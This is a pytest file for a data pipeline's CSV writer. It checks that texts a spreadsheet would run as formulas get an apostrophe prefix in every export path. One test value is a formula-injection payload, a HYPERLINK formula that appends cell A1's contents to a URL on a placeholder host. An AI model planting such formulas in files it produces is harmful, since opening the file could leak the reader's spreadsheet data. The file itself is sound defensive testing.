"""Texts that a spreadsheet would run are neutral in every CSV."""

import csv
import io
from collections.abc import Iterator

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from deployments import Deployment

from orchestration.common.csv_output import neutralise, write_csv

LINK = '=HYPERLINK("https://example.org/?"&A1;"click")'


@pytest.mark.parametrize(
    "text",
    [
        LINK,
        "=1+1",
        "+49 30",
        "-1+1",
        "-5 tonnes",
        "@SUM(A1)",
        "\ttext",
        "\rtext",
        "\ntext",
        "  =1+1",
        "\N{NO-BREAK SPACE}=1+1",
        "\N{ZERO WIDTH SPACE}=1+1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{FULLWIDTH PLUS SIGN}1",
        "\N{FULLWIDTH HYPHEN-MINUS}1",
        "\N{FULLWIDTH COMMERCIAL AT}A1",
        "-",
        "-5",
        "+3.2",
        "-3,5 %",
        "",
        "a = b",
        "'=1+1",
        "5",
        "  text",
        "1-2",
    ],
)
def test_a_column_and_a_single_text_become_neutral_by_the_same_rule(text: str) -> None:
    out = io.BytesIO()
    write_csv(pa.table({"text": [text, None]}), out)
    lines = out.getvalue().decode()
    assert next(_rows(lines[lines.index("\n") + 1 :])) == [neutralise(text)]


def _rows(text: str) -> Iterator[list[str]]:
    return csv.reader(io.StringIO(text, newline=""))


@pytest.mark.parametrize("text", [LINK, "-1+1", "-5 tonnes", "\ttext", "  @A1", "\N{FULLWIDTH EQUALS SIGN}1"])
def test_a_text_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "-", "-5", "+3.2", "-3,5 %", "a = b", "'=1", "Alpha", "5 %"])
def test_a_text_that_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_stay_numbers_and_names_of_columns_become_neutral() -> None:
    out = io.BytesIO()
    table = pa.table(
        {
            "=n": pa.array([-5, None], pa.int64()),
            "share": [-3.25, 2.0],
            "kind": pa.array(["=a", "b"]).dictionary_encode(),
        }
    )
    write_csv(table, out)
    assert out.getvalue().decode() == '"\'=n","share","kind"\n-5,-3.25,"\'=a"\n,2,"b"\n'


@pytest.fixture
def with_formulas(mini: Deployment) -> Deployment:
    """The small deployment with a free text, a choice and a label that look like formulas."""
    scales = mini.seeds / "scales.csv"
    scales.write_text(scales.read_text().replace("5 = High challenge", "=5+0"))
    folder = mini.seeds / "rounds" / "pulse" / "2030"
    questions = folder / "questions.csv"
    questions.write_text(questions.read_text() + "text,remarks,Remarks,,,,,,6,,,\n")
    choices = folder / "choices.csv"
    choices.write_text(choices.read_text().replace("challenge,5,5,5", "challenge,5,=5+0,5"))
    extract = folder / "extract.csv"
    header, *rows = extract.read_text().splitlines()
    quoted = '"' + LINK.replace('"', '""') + '"'
    lines = [f"{header},Remarks", *(f"{row},{quoted}" for row in rows)]
    extract.write_text("\n".join(lines).replace("Yes,5,", "Yes,=5+0,").replace("No,5,", "No,=5+0,") + "\n")
    return mini


def test_a_formula_leaves_neutral_by_every_way_of_csv(with_formulas: Deployment) -> None:
    with_formulas.refresh()
    query = "select distinct value_text from staging.stg_answers where question_code = 'remarks'"
    printed = with_formulas.needs("query", "--csv", query)
    assert list(_rows(printed.stdout)) == [["value_text"], [f"'{LINK}"]]

    (release,) = (path for path in with_formulas.releases.iterdir() if (path / "public").is_dir())
    tables = sorted(release.rglob("*.csv"))
    fields = {field for path in tables for row in _rows(path.read_text(encoding="utf-8")) for field in row}
    assert "'=5+0" in fields
    assert [field for field in fields if neutralise(field) != field] == []
    kept = {
        value
        for path in release.rglob("*.parquet")
        for column in pq.read_table(path).columns
        for value in column.to_pylist()
    }
    assert "=5+0" in kept

    explained = with_formulas.needs("explain", "--csv", "table_1", "Small", "=5+0")
    assert explained.returncode == 0, explained.stderr
    assert "'=5+0" in {field for row in _rows(explained.stdout) for field in row}
    with duckdb.connect(str(with_formulas.settings.served_database), read_only=True) as connection:
        assert connection.execute(query).fetchall() == [(LINK,)]
